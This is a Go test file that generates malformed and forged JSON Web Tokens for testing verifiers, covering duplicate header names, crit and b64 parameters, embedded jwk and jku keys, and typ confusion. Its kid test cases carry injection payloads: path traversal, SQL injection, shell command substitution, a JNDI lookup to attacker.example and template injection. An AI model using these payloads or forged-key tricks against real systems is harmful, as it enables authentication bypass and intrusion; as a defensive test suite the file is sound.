package authtest

import (
	"slices"
	"strings"
)

// headers are not what RFC 7515 section 4 wants of their JSON.
func (k *corpus) headers() {
	const object, unique, utf8 = "RFC 7515 section 4", "RFC 7515 section 4: names are unique", "RFC 7515 section 5.2"
	h := k.header.String()
	for _, b := range broken(h) {
		k.head(b.name, object, b.text)
	}
	own, none := quoted(k.s.alg.name), `"none"`
	k.head("alg twice, the same", unique, k.header.last("alg", own).String())
	k.head("alg twice, none behind", unique, k.header.last("alg", none).String())
	k.head("alg twice, none in front", unique, k.header.first("alg", none).String())
	k.head("alg twice, once with an escape", unique, k.header.last(`\u0061lg`, none).String())
	k.head("typ twice", unique, k.header.last("typ", `"other"`).String())
	k.head("kid twice", unique, k.header.without("kid").last("kid", `"a"`).last("kid", `"b"`).String())
	k.head("an unknown name twice", unique, k.header.last("x", "1").last("x", "1").String())
	k.head("a name twice further in", unique, k.header.last("x", `{"y":1,"y":2}`).String())
	k.head("a byte that is not UTF-8", utf8, k.header.last("x", "\"\xff\"").String())
	k.head("half a surrogate pair", utf8, k.header.last("x", `"\ud800"`).String())
	for _, value := range []string{"null", "7", `["a"]`, "{}", "true"} {
		k.head("kid is "+value, "RFC 7515 section 4.1.4", k.header.with("kid", value).String())
	}
}

// broken lists texts that are not the one JSON object that text is.
func broken(text string) []named {
	inner := strings.TrimSuffix(text, "}")
	return []named{
		{"null", "null"},
		{"a number", "1"},
		{"a string", quoted(text)},
		{"a list", "[" + text + "]"},
		{"an empty list", "[]"},
		{"true", "true"},
		{"spaces", "   "},
		{"cut off", inner},
		{"a brace more", text + "}"},
		{"a second object", text + "{}"},
		{"a second object in the next line", text + "\n" + text},
		{"a word behind it", text + " x"},
		{"NUL behind it", text + "\x00"},
		{"NUL in front", "\x00" + text},
		{"a comma too many", inner + ",}"},
		{"a comment", inner + "/* */}"},
		{"single quotes", strings.ReplaceAll(text, `"`, "'")},
		{"a byte order mark", "\ufeff" + text},
		{"UTF-16", utf16(text)},
		{"a control character", inner + ",\"x\":\"\x01\"}"},
		{"a number with a zero in front", inner + `,"x":01}`},
		{"NaN", inner + `,"x":NaN}`},
		{"a name without quotes", inner + `,x:1}`},
	}
}

// utf16 returns text, which is ASCII, in UTF-16, big-endian.
func utf16(text string) string {
	b := make([]byte, 0, 2*len(text))
	for i := range len(text) {
		b = append(b, 0, text[i])
	}
	return string(b)
}

// parameters are those that change how a token must be read.
func (k *corpus) parameters() {
	const crit, b64 = "RFC 7515 section 4.1.11, CVE-2025-59420", "RFC 7797 section 6"
	for _, value := range []string{
		`["exp"]`, `["b64"]`, `["http://example.invalid/UNDEFINED"]`, `["alg"]`, `["typ"]`, `["x","x"]`, `[""]`,
		"[]", "null", `"exp"`, "{}", "true", "[1]",
	} {
		k.head("crit is "+value, crit, k.header.with("exp", "1").with("x", "1").with("crit", value).String())
	}
	k.head("crit names what is not there", crit, k.header.with("crit", `["x"]`).String())
	k.head("crit with an escape", crit, k.header.with("x", "1").with(`cr\u0069t`, `["x"]`).String())

	// The payload stands for itself, and is not decoded (RFC 7797 section 3).
	raw := k.header.with("b64", "false")
	k.add("b64 is false", b64, k.s.SignSegments(encode(raw.String()), k.payload.String()))
	k.head("b64 is false, with an encoded payload", b64, raw.String())
	raw = raw.with("crit", `["b64"]`)
	k.add("b64 is false and critical", b64, k.s.SignSegments(encode(raw.String()), k.payload.String()))
	k.head("b64 is false and critical, with an encoded payload", b64, raw.String())
	k.head("b64 is true and critical", crit, k.header.with("b64", "true").with("crit", `["b64"]`).String())

	const zip = "RFC 7516 section 4.1.3, CVE-2024-28122"
	k.head("zip", zip, k.header.with("zip", `"DEF"`).String())
	k.signed("zip, compressed", zip, k.header.with("zip", `"DEF"`).String(), deflated(k.payload.String()))
	k.head("enc", "RFC 7516 section 9", k.header.with("enc", `"A256GCM"`).String())
}

// embedded are forged tokens that bring, or point to, the key they are signed with.
func (k *corpus) embedded() {
	const jwk = "RFC 7515 section 10, CVE-2018-0114, CVE-2025-24976"
	evil := k.evil
	key := evil.jwk()
	k.forged("jwk", jwk, evil, k.header.with("jwk", key.String()))
	k.forged("jwk with the same kid", jwk, evil, k.header.with("kid", `"1"`).with("jwk", key.with("kid", `"1"`).String()))
	k.forged("jwk in front", jwk, evil, k.header.first("jwk", key.String()))
	k.forged("jwks", jwk, evil, k.header.with("jwks", `{"keys":[`+key.String()+`]}`))
	k.forged("jku", "RFC 8725 section 3.10", evil, k.header.with("jku", quoted(k.trap)))
	k.forged("jku with a kid", "RFC 8725 section 3.10", evil, k.header.with("jku", quoted(k.trap)).with("kid", `"1"`))
	k.forged("x5u", "RFC 8725 section 3.10", evil, k.header.with("x5u", quoted(k.trap)))
	if k.c.Issuer != "" {
		k.forged("jku that begins as the issuer does", "RFC 8725 section 3.10", evil,
			k.header.with("jku", quoted(strings.TrimSuffix(k.c.Issuer, "/")+"@attacker.example/keys")))
	}
	if cert, thumbprint := certificate(evil); cert != "" {
		k.forged("x5c", jwk, evil, k.header.with("x5c", "["+quoted(cert)+"]"))
		k.forged("x5c with x5t#S256", jwk, evil, k.header.with("x5c", "["+quoted(cert)+"]").with("x5t#S256", quoted(thumbprint)))
	}

	const kid = "RFC 8725 section 3.10"
	for _, c := range []struct{ kid, secret string }{
		{"/dev/null", ""},
		{"../../../../../../dev/null", ""},
		{"..\\..\\..\\..\\Windows\\win.ini", ""},
		{"../../../../../../proc/sys/kernel/randomize_va_space", "2\n"},
		{"../../../../../../etc/hostname", "localhost\n"},
		{"' UNION SELECT 'attacker' -- ", "attacker"},
		{"x' OR '1'='1", ""},
		{"1; DROP TABLE keys; --", ""},
		{"$(id)", ""},
		{"| id", ""},
		{"${jndi:ldap://attacker.example/a}", ""},
		{"{{7*7}}", "49"},
		{"__proto__", ""},
		{"", ""},
		{"key\u0000", ""},
		{strings.Repeat("k", 4096), ""},
		{k.trap, ""},
	} {
		name, header := "kid is "+quoted(c.kid[:min(len(c.kid), 60)]), k.header.with("kid", quoted(c.kid))
		k.forged(name+", signed with another key", kid, evil, header)
		if k.s.alg.family == familySecret {
			secret := &Signer{alg: k.s.alg, key: []byte(c.secret)}
			k.forged(name+", signed with what it names", kid, secret, header)
		}
	}
	deep := strings.Repeat("[", 2000) + strings.Repeat("]", 2000)
	k.forged("two thousand lists in each other", "RFC 8259 section 9", evil, k.header.with("x", deep))
}

// types are tokens for another purpose than access, which the same key may sign.
func (k *corpus) types() {
	const purpose = "RFC 8725 section 3.11"
	for _, t := range []named{
		{"refresh+jwt", "RFC 8725 section 3.12"},
		{"id_token+jwt", "RFC 8725 section 3.12"},
		{"dpop+jwt", "RFC 9449 section 4.2"},
		{"logout+jwt", "OpenID Connect Back-Channel Logout 1.0 section 2.4"},
		{"secevent+jwt", "RFC 8417 section 2.3"},
		{"token-introspection+jwt", "RFC 9701 section 5"},
		{"oauth-authz-req+jwt", "RFC 9101 section 10.8"},
		{"client-authentication+jwt", "draft-ietf-oauth-rfc7523bis"},
		{"entity-statement+jwt", "OpenID Federation 1.0"},
		{"kb+jwt", "RFC 9901 section 4.3"},
		{"application/refresh+jwt", "RFC 7515 section 4.1.9"},
		{"JWE", purpose},
		{"JOSE", purpose},
		{"JWS", purpose},
		{"text/plain", purpose},
		{"JWT ", purpose},
		{"", purpose},
	} {
		if !slices.ContainsFunc(k.c.TokenTypes, func(own string) bool { return sameType(own, t.name) }) {
			k.head("typ is "+quoted(t.name), t.text, k.header.with("typ", quoted(t.name)).String())
		}
	}
	for _, value := range []string{"null", "1", `["JWT"]`, "{}"} {
		k.head("typ is "+value, "RFC 7515 section 4.1.9", k.header.with("typ", value).String())
	}
	if k.s.alg.family == familySecret && !k.c.AllowNoType { // public keys are often published for tokens without one
		k.head("no typ", purpose, k.header.without("typ").String())
	}
	k.signed("a token in the token", "RFC 7519 section 5.2", k.header.with("cty", `"JWT"`).String(), k.good())
}

// sameType compares types as RFC 7515 section 4.1.9 wants it.
func sameType(a, b string) bool {
	const prefix = "application/"
	return strings.EqualFold(strings.TrimPrefix(a, prefix), strings.TrimPrefix(b, prefix))
}
